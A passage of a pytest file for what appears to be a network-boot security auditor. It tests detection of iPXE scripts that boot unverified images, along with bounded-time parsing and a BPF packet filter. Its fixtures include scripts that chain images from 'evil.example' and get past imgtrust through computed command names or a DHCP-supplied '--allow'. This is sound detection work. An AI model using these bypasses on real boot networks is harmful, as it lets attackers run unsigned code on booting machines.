                                  "imgtrust ${209:string}"])
def test_a_computed_imgtrust_word_may_allow_unverified_images(line: str) -> None:
    """iPXE expands the words before reading the options: `imgtrust ${o}` with o=--allow
    (a setting the segment's DHCP can give) is `imgtrust --allow`, with --permanent for
    good. The model read the word unexpanded, took trust as required and every later
    boot as guarded (a review's finding); such a line may allow unverified images."""
    script = f"#!ipxe\n{line}\nchain https://evil.example/p.efi\n".encode()
    info = loaders.identify(script)
    assert info.kind == "ipxe-script" and info.imgverify is False, info
    assert "'chain' can execute" in (info.unguarded or ""), info.unguarded
    # once trust is permanent, iPXE refuses the change (EACCES): still guarded
    fixed = f"#!ipxe\nimgtrust --permanent\n{line}\nchain https://a/p.efi\n".encode()
    assert loaders.identify(fixed).unguarded is None

# iPXE expands ${...} in every token, the command name included (exec.c: expand_tokens()
# then execv(argv[0])): each of these chains an unverified image on a real iPXE.
COMPUTED_NAMES = {
    "name-from-set": ("set c chain\n${c} https://evil.example/p.efi\n", 3, "${c}"),
    "empty-setting-inside": ("ch${nothing}ain https://evil.example/p.efi\n", 2,
                             "ch${nothing}ain"),
    "name-from-dhcp": ("${209:string} https://evil.example/p.efi\n", 2, "${209:string}"),
    "behind-imgtrust": ("imgtrust --permanent\nset c sanboot\n${c} https://evil.example/d\n",
                        4, "${c}"),
}


@pytest.mark.parametrize("name", sorted(COMPUTED_NAMES))
def test_a_computed_command_name_may_run_an_unverified_image(name: str) -> None:
    """The model does not track setting values, so a command named by a setting may be
    chain (or sanboot, which imgtrust does not cover): the script is not guarded. Before,
    it was taken for an unknown command and the script for a verified one."""
    from tests.audit.test_checks import fetched, observe, offer, rules
    from trustboot.audit.policy import Policy

    body, line, word = COMPUTED_NAMES[name]
    script = f"#!ipxe\n{body}".encode()
    info = loaders.identify(script)
    assert info.kind == "ipxe-script" and info.imgverify is False, info
    says = (f"line {line}: a computed command name '{word}' can run any command, e.g. "
            "'chain https://evil.example/")
    assert (info.unguarded or "").startswith(says), info.unguarded
    assert info.unguarded is not None and info.unguarded.endswith("[computed-command]")
    found = rules(observe(offers=[offer(file="boot.ipxe")],
                          fetched=[fetched("192.0.2.1", "boot.ipxe", script)]), Policy())
    [finding] = found["script-without-imgverify"]
    assert finding.evidence["unguarded"] == info.unguarded


@pytest.mark.parametrize("body", ["goto ${x}\n", "echo ${c} chain\n",
                                  "set c chain\necho ${c}\n", "${\n"])
def test_a_setting_outside_the_command_name_is_not_a_computed_command(body: str) -> None:
    """Only the command word counts: a computed goto target, an expanded argument, and no
    boot at all stay guarded ('${' alone is a command not found, as before)."""
    info = loaders.identify(f"#!ipxe\nimgtrust --permanent\n{body}".encode())
    assert info.imgverify is True and info.unguarded is None, info


def _released_scripts() -> dict[str, str]:
    from trustboot.ipxe.script import ChainScript, render_chain_script
    from trustboot.release.render import MenuEntry, render_menu

    entries = (MenuEntry("debian", "Debian 12", ("bios", "x86_64-efi"), "debian/linux",
                         ("debian/initrd.gz",), "console=ttyS0", True),
               MenuEntry("rescue", "Rescue", ("arm64-efi",), "rescue/vmlinuz",
                         ("rescue/initrd.img", "rescue/modules.img"), ""))
    menu = render_menu(release_id="2026.11.25-abcd1234", name="lab",
                       base_url="https://boot.example.net/", signer="release-signer",
                       title="Lab", timeout=10, entries=entries, on_failure="halt")
    chain = render_chain_script(ChainScript(url="https://boot.example.net/boot.ipxe",
                                            signer="release-signer"))
    return {"menu": menu, "chain": chain}


@pytest.mark.parametrize("name", ["menu", "chain"])
def test_a_fail_closed_script_as_trustboot_renders_it_is_not_flagged(name: str) -> None:
    """imgtrust --permanent, then every image imgverify'd '|| goto' the failure block: no
    path boots anything unverified, so no finding (a script of imgtrust alone neither:
    iPXE refuses to run an image it did not verify)."""
    from tests.audit.test_checks import fetched, observe, offer, rules

    script = _released_scripts()[name].encode()
    assert b"imgtrust --permanent" in script and b"|| goto tb_failed" in script
    info = loaders.identify(script)
    assert info.imgverify is True and info.unguarded is None and info.not_parsed is None
    found = rules(observe(offers=[offer(file="boot.ipxe")],
                          fetched=[fetched("192.0.2.1", "boot.ipxe", script)]))
    assert "script-without-imgverify" not in found


@pytest.mark.parametrize("body", [
    "".join(f"imgfetch https://a/f{i} || goto x\n" for i in range(9000)),
    "".join(f":l{i}\nimgfetch https://a/f{i % 50} || goto ${{x}}\n" for i in range(6000)),
])
def test_a_script_with_too_many_paths_is_said_to_be_unchecked_in_bounded_time(
        body: str) -> None:
    """Under the parse cap, but built so that walking its paths would take long (thousands
    of images, a computed goto to thousands of labels):
    the walk stops at its bounds and says the script was not checked (the finding fires)."""
    import time

    script = b"#!ipxe\n" + body.encode()[:loaders.MAX_PARSED_SCRIPT - 8]
    began = time.process_time()
    info = loaders.identify(script)
    assert time.process_time() - began < 5.0
    assert info.imgverify is None and "too many paths" in (info.not_parsed or ""), info


def test_a_script_too_large_to_parse_is_said_to_be_so_in_bounded_time() -> None:
    """Half a million lines (3.5 MB, 12 s to parse): not parsed past the cap, its imgverify
    unknown and said so (a finding says it was not checked), its URLs still listed."""
    import time

    from tests.audit.test_checks import observe, rules
    from trustboot.audit.model import HttpCheck

    big = b"#!ipxe\nchain http://x/y\n" + b"echo a\n" * 500_000
    began = time.process_time()
    info = loaders.identify(big)
    assert time.process_time() - began < 2.0
    assert info.kind == "ipxe-script" and info.imgverify is None
    assert "too large to parse" in (info.not_parsed or "") and info.urls == ["http://x/y"]
    assert info.to_json()["not_parsed"] == info.not_parsed
    small = b"#!ipxe\nimgtrust --permanent\n" + b"echo a\n" * 1000
    assert loaders.identify(small).imgverify is True
    obs = observe(http=[HttpCheck("https://boot.example/x.ipxe", ok=True, status=200,
                                  size=len(big), sha256="e" * 64, loader=info)])
    [finding] = rules(obs)["script-without-imgverify"]
    assert "not checked" in finding.message and finding.evidence["not_parsed"]


# -- the BPF filter, run through a tiny classic-BPF interpreter ------------------------------------


def _run_bpf(program: list[tuple[int, int, int, int]], pkt: bytes) -> int:
    a = x = pc = 0
    while True:
        code, jt, jf, k = program[pc]
        pc += 1
        if code == 0x28:
            a = struct.unpack_from("!H", pkt, k)[0] if k + 2 <= len(pkt) else None  # type: ignore[assignment]
        elif code == 0x30:
            a = pkt[k] if k < len(pkt) else None  # type: ignore[assignment]
        elif code == 0x48:
            a = struct.unpack_from("!H", pkt, x + k)[0] if x + k + 2 <= len(pkt) else None  # type: ignore[assignment]
        elif code == 0x50:
            a = pkt[x + k] if x + k < len(pkt) else None  # type: ignore[assignment]
        elif code == 0xB1:
            x = (pkt[k] & 0x0F) * 4
        elif code == 0x15:
            pc += jt if a == k else jf
        elif code == 0x45:
            pc += jt if a & k else jf
        elif code == 0x06:
            return k
        else:
            raise AssertionError(f"unknown opcode {code:#x}")
        if a is None:
            return 0  # the kernel drops a packet when a load runs past its end


def _ns(target: str) -> bytes:
    body = struct.pack("!BBHI", frames.ICMPV6_NS, 0, 0, 0) + ipaddress.IPv6Address(target).packed
    ip6 = (struct.pack("!IHBB", 6 << 28, len(body), 58, 255)
           + ipaddress.IPv6Address("fe80::1").packed + ipaddress.IPv6Address(target).packed)
    return frames.ethernet(MAC, MAC, frames.ETH_P_IPV6, ip6 + body)


def _v4(sport: int, dport: int, payload: bytes) -> bytes:
    return frames.udp4_frame(src_mac=MAC, dst_mac=MAC, src_ip="192.0.2.1", dst_ip="192.0.2.2",
                             sport=sport, dport=dport, payload=payload)


@pytest.mark.parametrize(("frame", "active", "passive"), [
    (packets.offer_frame(b"\x02" + b"x" * 40), True, True),  # BOOTREPLY to 68
    (packets.offer_frame(b"\x02" + b"x" * 40, sport=6767), True, True),  # any source port
    (packets.offer_frame(b"\x01" + b"x" * 40), False, False),  # a BOOTREQUEST to 68
    (packets.offer_frame(b"x"), False, False),  # junk to 68
    (_v4(4011, 40000, b"\x02xx"), True, True),  # a boot server's answer on 4011
    (_v4(53, 40000, b"\x02xx"), False, False),
    (_v4(68, 67, b"\x01xx"), False, True),  # a client's DISCOVER: passive only
    (_v4(68, 4011, b"\x01xx"), False, True),
    (frames.udp6_frame(src_mac=MAC, dst_mac=MAC, src_ip="fe80::1", dst_ip="fe80::2",
                       sport=547, dport=546, payload=b"x"), True, True),
    (frames.udp6_frame(src_mac=MAC, dst_mac=MAC, src_ip="fe80::1", dst_ip="ff02::1:2",
                       sport=546, dport=547, payload=b"x"), False, True),
    (frames.udp6_frame(src_mac=MAC, dst_mac=MAC, src_ip="fe80::1", dst_ip="fe80::2",
                       sport=53, dport=5353, payload=b"x"), False, False),
    (_ns("fe80::2"), True, True),
    (frames.neighbour_advert(src_mac=MAC, dst_mac=MAC, target="fe80::1", dst_ip="fe80::2"),
     False, False),
    (frames.ethernet(MAC, MAC, 0x0806, b"\0" * 28), False, False),  # ARP
    # fragments of a UDP datagram (an offer split to hide it): reassembled in user space
    *[(f, True, True) for f in packets.fragment(packets.offer_frame(b"\x02" * 40), 8)],
    *[(f, True, True) for f in packets.fragment6(frames.udp6_frame(
        src_mac=MAC, dst_mac=MAC, src_ip="fe80::1", dst_ip="fe80::2", sport=547, dport=546,
        payload=b"x" * 40), 16)],
])
def test_bpf_filter(frame: bytes, active: bool, passive: bool) -> None:
    assert bool(_run_bpf(probe.boot_protocol_filter(), frame)) is active
    assert bool(_run_bpf(probe.boot_protocol_filter(passive=True), frame)) is passive
